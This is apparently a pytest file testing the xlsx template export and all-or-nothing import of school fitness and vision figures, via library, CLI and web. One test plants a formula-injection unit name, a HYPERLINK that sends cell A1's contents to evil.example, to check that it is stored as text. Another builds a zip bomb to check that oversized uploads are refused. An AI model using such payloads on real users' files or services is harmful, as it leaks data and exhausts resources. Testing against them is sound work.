"""One xlsx template per data set for many schools at once, and its import: all or nothing,
every problem at its cell.

The data set is 学生体质健康与视力（学期）for 2025S1; its columns C–G are 体质健康测试人数,
合格人数, 优良人数, 视力筛查人数, 筛查性近视人数. The bureau's template lists its five
schools of the right levels, one row each from row 5, in the order of the org tree.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from click.testing import CliRunner
from django.urls import reverse
from openpyxl import load_workbook

from eduplan.cli import main
from eduplan.errors import EduplanError
from eduplan.indicators import collecting
from eduplan.indicators.models import DataSet, DataValue, Submission
from eduplan.indicators.spreadsheet import FIRST_ROW, TemplateRefused, read_template, template
from eduplan.orgs.models import OrgUnit
from eduplan.orgs.services import add_unit
from eduplan.plan.safezip import MAX_INFLATED_BYTES
from eduplan.tracking.setup import setup_bureau

PERIOD = "2025S1"
SCHOOL_A, SCHOOL_B = "青禾区实验小学", "青禾区滨江小学"
GOOD = {SCHOOL_A: [400, 372, 300, 400, 150], SCHOOL_B: [100, 98, 80, 100, 40]}
ELEMENTS = ["fitness_tested", "fitness_passed", "fitness_good", "vision_screened", "myopic"]


@pytest.fixture
def health(world) -> DataSet:
    return DataSet.objects.get(code="health_semester")


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def row_of(ws, unit: OrgUnit) -> int:
    return next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(row=r, column=1).value == unit.pk)


def filled(content: bytes, world, figures: dict[str, list], *, ids: dict[str, object] | None = None) -> bytes:
    """The template with ``figures`` typed into each named school's row; ``ids`` puts another
    unit id (or anything) into a school's 单位编号 cell."""
    workbook = load_workbook(io.BytesIO(content))
    ws = workbook.worksheets[0]
    for name, values in figures.items():
        row = row_of(ws, world.unit(name))
        for column, value in enumerate(values, start=3):
            ws.cell(row=row, column=column).value = value
    for name, new_id in (ids or {}).items():
        ws.cell(row=row_of(ws, world.unit(name)), column=1).value = new_id
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def stored(world) -> dict[tuple[str, str], float]:
    return {(v.unit.name, v.element.code): v.value for v in DataValue.objects.select_related("unit", "element")}


def other_bureau_school() -> OrgUnit:
    other = setup_bureau("澜江市云岭区教育局")
    return add_unit("云岭区第一小学", parent=other, kind=OrgUnit.Kind.SCHOOL, school_level="primary")


# ---------------------------------------------------------------- the template

def test_the_template_lists_every_school_that_reports_with_a_header_block(world, health):
    ws = sheet_of(template(health, world.bureau, PERIOD))
    assert ws["A1"].value == "学生体质健康与视力（学期）"
    assert "2025年春季学期" in ws["A2"].value and world.bureau.name in ws["A2"].value
    assert [ws.cell(row=3, column=c).value for c in range(1, 8)] == ["health_semester", PERIOD, *ELEMENTS]
    assert ws.row_dimensions[3].hidden
    assert ws["C4"].value == "体质健康测试人数（人）" and ws["H4"].value == "报送状态"
    names = [ws.cell(row=r, column=2).value for r in range(FIRST_ROW, ws.max_row + 1)]
    assert names == ["青禾区实验小学", "青禾区第一中学", "青禾区滨江小学", "青禾区育才学校", "青禾区高级中学"]
    assert ws.protection.sheet and ws["A5"].protection.locked and not ws["C5"].protection.locked


def test_the_template_is_prefilled_with_the_stored_figures(world, health):
    school = world.unit(SCHOOL_A)
    collecting.submit(health, school, PERIOD, dict(zip(ELEMENTS, GOOD[SCHOOL_A], strict=True)),
                      user=world.users["school_a"])
    ws = sheet_of(template(health, world.bureau, PERIOD))
    row = row_of(ws, school)
    assert [ws.cell(row=row, column=c).value for c in range(3, 9)] == [*GOOD[SCHOOL_A], "已提交"]
    assert ws.cell(row=row, column=3).protection.locked  # submitted: locked until sent back
    assert ws.cell(row=row_of(ws, world.unit(SCHOOL_B)), column=3).value is None


def test_a_formula_looking_unit_name_is_written_as_text(world, health):
    name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    add_unit(name, parent=world.bureau, kind=OrgUnit.Kind.SCHOOL, school_level="primary")
    ws = sheet_of(template(health, world.bureau, PERIOD))
    cell = next(c for c in ws["B"] if c.value == name)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


# ---------------------------------------------------------------- importing

def test_round_trip_submits_every_filled_row_and_skips_blank_ones(world, health):
    content = filled(template(health, world.bureau, PERIOD), world, GOOD)
    calls = []
    result = read_template(io.BytesIO(content), health, world.bureau, PERIOD, world.users["admin"],
                           progress=lambda done, total: calls.append((done, total)))
    assert (result.submitted, result.unchanged, result.blank) == (2, 0, 3)
    assert stored(world)[(SCHOOL_A, "fitness_passed")] == 372
    assert len(stored(world)) == 10 and set(DataValue.objects.values_list("source", flat=True)) == {"xlsx"}
    states = dict(Submission.objects.values_list("unit__name", "state"))
    assert states == {SCHOOL_A: "submitted", SCHOOL_B: "submitted"}
    assert calls[-1] == (4, 4) and [d for d, _ in calls] == sorted(d for d, _ in calls)


def test_an_unchanged_submitted_row_is_left_alone_and_a_changed_one_refused(world, health):
    read_template(io.BytesIO(filled(template(health, world.bureau, PERIOD), world, GOOD)), health, world.bureau,
                  PERIOD, world.users["admin"])
    again = read_template(io.BytesIO(template(health, world.bureau, PERIOD)), health, world.bureau, PERIOD,
                          world.users["admin"])
    assert (again.submitted, again.unchanged) == (0, 2)
    changed = filled(template(health, world.bureau, PERIOD), world, {SCHOOL_A: [401, 372, 300, 400, 150]})
    with pytest.raises(TemplateRefused) as refused:
        read_template(io.BytesIO(changed), health, world.bureau, PERIOD, world.users["admin"])
    assert [str(p)[:9] for p in refused.value.problems] == ["C5：[E708]"]


# fmt: off
# (case, figures by school, other unit ids by school, the problems expected: cell and code)
PROBLEM_CASES = [
    ("not a number",             {SCHOOL_A: ["很多", 372, 300, 400, 150]}, {}, ["C5：[E701]"]),
    ("not a whole number",       {SCHOOL_A: [400, 372.5, 300, 400, 150]}, {}, ["D5：[E702]"]),
    ("a part larger than whole", {SCHOOL_A: [100, 120, 80, 400, 150]}, {}, ["D5：[E706]"]),
    ("a figure left out",        {SCHOOL_A: [400, None, 300, 400, 150]}, {}, ["D5：[E705]"]),
    ("two problems in one row",  {SCHOOL_A: [-1, 372, 300, 100, 150]}, {},
     ["C5：[E703]", "G5：[E706]"]),
    ("an unknown unit id",       {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": 999999}, ["A9：[E743]"]),
    ("a unit id typed as text",  {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": "第九"}, ["A9：[E743]"]),
    ("figures without a unit",   {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": None}, ["A9：[E744]"]),
    ("a unit of another bureau", {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": "other"}, ["A9：[E743]"]),
    ("a unit twice",             {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": SCHOOL_B}, ["A9：[E745]"]),
    ("a unit that does not report it", {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": "青禾区城南幼儿园"},
     ["A9：[E707]"]),
    ("a bad unit and a bad figure", {"青禾区高级中学": [10, 2, 3, 4, "五"]}, {"青禾区高级中学": 999999},
     ["A9：[E743]", "G9：[E701]"]),
    ("an id too big to be one", {"青禾区高级中学": GOOD[SCHOOL_B]}, {"青禾区高级中学": "9" * 30}, ["A9：[E743]"]),
]
# fmt: on


@pytest.mark.parametrize(("case", "figures", "ids", "expected"), PROBLEM_CASES, ids=[c[0] for c in PROBLEM_CASES])
def test_every_problem_is_reported_at_its_cell_and_nothing_is_written(world, health, case, figures, ids, expected):
    other = other_bureau_school()
    ids = {name: other.pk if new == "other" else world.unit(new).pk if new in (SCHOOL_B, "青禾区城南幼儿园") else new
           for name, new in ids.items()}
    content = filled(template(health, world.bureau, PERIOD), world, {SCHOOL_B: GOOD[SCHOOL_B], **figures}, ids=ids)
    with pytest.raises(TemplateRefused) as refused:
        read_template(io.BytesIO(content), health, world.bureau, PERIOD, world.users["admin"])
    assert [str(p)[:9] for p in refused.value.problems] == expected
    assert str(refused.value).startswith(f"[E749] 数据表模板中有 {len(expected)} 处问题，没有保存任何数据；{expected[0]}")
    assert other.name not in str(refused.value)  # another bureau's school is named by its id only
    assert not DataValue.objects.exists() and not Submission.objects.exists()


def test_a_problem_names_the_figures_as_typed(world, health):
    content = filled(template(health, world.bureau, PERIOD), world, {SCHOOL_A: [100, 120, 80, 400, 150]})
    with pytest.raises(TemplateRefused) as refused:
        read_template(io.BytesIO(content), health, world.bureau, PERIOD, world.users["admin"])
    assert str(refused.value.problems[0]).startswith("D5：[E706] 体质健康测试合格人数（120）不能大于 体质健康测试人数（100）")


def test_a_school_reporter_cannot_submit_another_schools_row(world, health):
    content = filled(template(health, world.bureau, PERIOD), world, GOOD)
    with pytest.raises(TemplateRefused) as refused:
        read_template(io.BytesIO(content), health, world.unit(SCHOOL_A), PERIOD, world.users["school_a"])
    assert [str(p)[:9] for p in refused.value.problems] == ["A7：[E743]"]
    assert SCHOOL_B not in str(refused.value)  # not in their scope: as unknown as no unit
    assert not DataValue.objects.exists()


def test_a_school_reporter_submits_their_own_template(world, health):
    school = world.unit(SCHOOL_A)
    content = filled(template(health, school, PERIOD), world, {SCHOOL_A: GOOD[SCHOOL_A]})
    result = read_template(io.BytesIO(content), health, school, PERIOD, world.users["school_a"])
    assert result.submitted == 1 and stored(world)[(SCHOOL_A, "myopic")] == 150


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (MAX_INFLATED_BYTES + 1))
    return buffer.getvalue()


def test_a_file_that_is_not_this_template_is_refused_whole(world, health):
    other = DataSet.objects.get(code="after_school_semester")
    for content, code in ((template(other, world.bureau, PERIOD), "[E741]"),
                          (template(health, world.bureau, "2024S2"), "[E741]"),
                          (b"not a spreadsheet at all", "[E742]"),
                          (zip_bomb(), "[E115]")):
        with pytest.raises(EduplanError) as error:
            read_template(io.BytesIO(content), health, world.bureau, PERIOD, world.users["admin"], name="x.xlsx")
        assert str(error.value).startswith(code)


def test_a_column_deleted_is_refused_whole(world, health):
    workbook = load_workbook(io.BytesIO(template(health, world.bureau, PERIOD)))
    workbook.worksheets[0].delete_cols(5)
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(EduplanError) as error:
        read_template(buffer, health, world.bureau, PERIOD, world.users["admin"])
    assert str(error.value).startswith("[E747] 模板的列与数据表“学生体质健康与视力（学期）”不一致（缺少体质健康测试优良人数）")


# ---------------------------------------------------------------- the command line

def test_the_cli_writes_a_template_and_imports_it(world, health, tmp_path):
    out = tmp_path / "health.xlsx"
    common = ["--data-set", "health_semester", "--unit", str(world.bureau.pk), "--period", PERIOD]
    written = CliRunner().invoke(main, ["data", "template", *common, "--out", str(out)])
    assert written.exit_code == 0, written.output
    out.write_bytes(filled(out.read_bytes(), world, {SCHOOL_A: [100, 120, 80, 400, 150]}))
    refused = CliRunner().invoke(main, ["data", "import", str(out), *common, "--user", "admin"])
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    problem, summary = refused.stderr.splitlines()[-2:]
    assert problem.startswith("D5：[E706]") and summary == "1 处问题，未保存任何内容 / 1 problems, nothing saved"
    out.write_bytes(filled(out.read_bytes(), world, GOOD))
    imported = CliRunner().invoke(main, ["data", "import", str(out), *common, "--user", "admin"])
    assert imported.exit_code == 0, imported.output
    assert "已提交 / submitted: 2 个单位" in imported.stdout
    assert stored(world)[(SCHOOL_B, "fitness_tested")] == 100


# ---------------------------------------------------------------- the web page

def test_the_admin_downloads_fills_and_uploads_a_template(world, health, as_user):
    client = as_user("admin")
    query = {"data_set": "health_semester", "period": PERIOD}
    page = client.get(reverse("data-sheets"), query)
    assert page.status_code == 200 and "应填报单位 <strong>5</strong> 个" in page.content.decode()
    download = client.get(reverse("data-sheet-template"), {**query, "unit": world.bureau.pk})
    assert download.status_code == 200 and download["Content-Disposition"].startswith("attachment")
    content = filled(b"".join(download.streaming_content), world, GOOD)
    upload = io.BytesIO(content)
    upload.name = "体质健康.xlsx"
    done = client.post(reverse("data-sheet-upload"), {**query, "unit": world.bureau.pk, "file": upload}, follow=True)
    assert "已导入“体质健康.xlsx”：2 个单位的数据已提交，3 个单位未填写（已跳过）" in done.content.decode()
    assert Submission.objects.filter(state="submitted").count() == 2


def test_an_upload_with_problems_lists_them_by_cell(world, health, as_user):
    content = filled(template(health, world.bureau, PERIOD), world, {SCHOOL_A: ["很多", 372, 300, 400, 150]})
    upload = io.BytesIO(content)
    upload.name = "体质健康.xlsx"
    page = as_user("admin").post(reverse("data-sheet-upload"), {
        "data_set": "health_semester", "period": PERIOD, "unit": world.bureau.pk, "file": upload})
    text = page.content.decode()
    assert page.status_code == 200 and "<td class=\"nowrap\">C5</td>" in text and "[E701]" in text
    assert "没有保存任何数据" in text and not DataValue.objects.exists()


def test_a_school_reporter_cannot_pick_the_bureau(world, health, as_user):
    page = as_user("school_a").get(reverse("data-sheet-template"), {
        "data_set": "health_semester", "period": PERIOD, "unit": world.bureau.pk})
    assert page.status_code == 404
